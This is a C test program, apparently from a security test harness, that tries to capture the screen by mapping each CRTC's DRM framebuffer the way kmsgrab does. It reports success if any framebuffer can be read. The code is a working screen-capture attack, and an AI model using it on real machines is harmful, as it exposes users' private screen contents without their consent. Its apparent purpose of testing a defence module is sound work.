// SPDX-License-Identifier: Apache-2.0
/*
 * Asks each CRTC for its framebuffer and maps that, as kmsgrab does.
 *
 * attack: getfb_capture
 * class: screen
 * when: session
 * judge: picture-read
 * quick: yes
 * defence: module
 * why: GETFB2 as CAP_SYS_ADMIN; the session's framebuffer is hidden from id look-up
 */
#include <string.h>
#include <xf86drm.h>

#include "report.h"
#include "screen.h"

static int capture(const struct screen *s)
{
	drmModeRes *res = drmModeGetResources(s->card);
	struct screen_buffer b;
	int i, ret, found = 0;

	for (i = 0; res && i < res->count_crtcs; i++) {
		drmModeCrtc *crtc = drmModeGetCrtc(s->card, res->crtcs[i]);
		uint32_t fb = crtc ? crtc->buffer_id : 0;

		drmModeFreeCrtc(crtc);
		if (!fb)
			continue;
		ret = screen_map_fb(s->card, fb, &b);
		attack_note("framebuffer %u: %s", fb, ret ? strerror(-ret) : "mapped");
		if (ret)
			continue;
		screen_report(b.map, b.pitch, b.width, b.height);
		screen_unmap(s->card, &b);
		found++;
	}
	drmModeFreeResources(res);
	return found;
}

int main(void)
{
	struct screen s;
	int ret;

	attack_init();
	ret = screen_open(&s);
	if (ret)
		attack_failed("no screen: %s", strerror(-ret));
	attack_ready();
	if (!capture(&s))
		attack_failed("no framebuffer could be mapped");
	attack_succeeded("mapped a framebuffer");
}
